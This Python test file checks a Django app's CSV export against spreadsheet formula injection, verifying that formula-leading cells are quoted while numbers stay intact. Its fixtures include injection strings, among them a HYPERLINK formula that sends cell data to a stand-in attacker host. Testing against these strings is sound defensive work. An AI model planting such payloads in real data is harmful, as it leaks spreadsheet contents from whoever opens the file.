"""CSV exports never carry a live spreadsheet formula (OWASP's CSV injection rule), whatever users typed
into names, teams, titles or searches; numbers stay numbers."""

import csv
import io

import pytest

from accounts import roles
from accounts.models import Team
from core.csv_export import csv_response
from kb import acknowledgements
from kb.models import CrisisPage
from tests.factories import make_user, published_article

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Apri")', "+39 02 1234", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"]


def parsed(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_every_cell_that_would_start_a_formula_is_quoted_and_numbers_are_left_alone():
    rows = parsed(csv_response("t.csv", ["=header", "Count"], [[text, -5] for text in FORMULAS] + [["Roma", 0]]))
    assert rows[0] == ["'=header", "Count"]
    assert [row[0] for row in rows[1:-1]] == ["'" + text for text in FORMULAS]
    assert {row[1] for row in rows[1:-1]} == {"-5"}
    assert rows[-1] == ["Roma", "0"]


def test_negative_numbers_formatted_for_the_reader_stay_numbers():
    cells = ["-41,2", "-1.234,5", "-3,5 %", "-1,234.5", "-2+3", "-1,2;=cmd", "-5 %A"]
    rows = parsed(csv_response("t.csv", ["Trend"], [[cell] for cell in cells]))
    assert [row[0] for row in rows[1:]] == ["-41,2", "-1.234,5", "-3,5 %", "-1,234.5", "'-2+3", "'-1,2;=cmd", "'-5 %A"]


@pytest.mark.django_db
def test_read_receipts_export_neutralises_names_and_teams(client, csr, home):
    crisis = published_article(CrisisPage, title="Blackout rete mobile")
    attacker = make_user("operatore3", roles.CSR, first_name=FORMULAS[0], last_name="")
    team = Team.objects.create(name="@SUM(1+1)")
    team.members.add(attacker, csr)
    acknowledgements.do_acknowledge(attacker, crisis)
    client.force_login(make_user("teamleader", roles.TEAM_LEAD))
    rows = {row[0]: row for row in parsed(client.get(f"/kb/crises/{crisis.pk}/receipts/?format=csv"))[1:]}
    assert rows["operatore3"][1] == "'" + FORMULAS[0]
    assert rows["operatore3"][2] == "'@SUM(1+1)"
    assert rows["operatore"][2] == "'@SUM(1+1)"
    assert rows["operatore3"][3] and rows["operatore3"][4] == ""  # read the current version, no older one only
